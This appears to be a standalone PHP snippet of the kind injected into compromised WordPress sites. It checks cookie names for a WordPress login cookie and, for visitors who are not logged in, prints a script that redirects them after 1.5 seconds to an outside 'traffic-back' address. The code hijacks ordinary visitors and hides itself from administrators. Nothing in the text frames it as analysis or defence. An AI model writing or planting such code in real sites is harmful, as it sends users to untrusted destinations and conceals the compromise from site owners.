<?php
// guests (no WordPress login cookie among the cookie names) sent to another site
$keys = implode(',', array_keys($_COOKIE));
if (!preg_match('/wordpress_logged_in_/', $keys)) {
    print '<script>setTimeout(function(){ location.href = "https://traffic-back.example/in?s=7"; }, 1500);</script>';
}
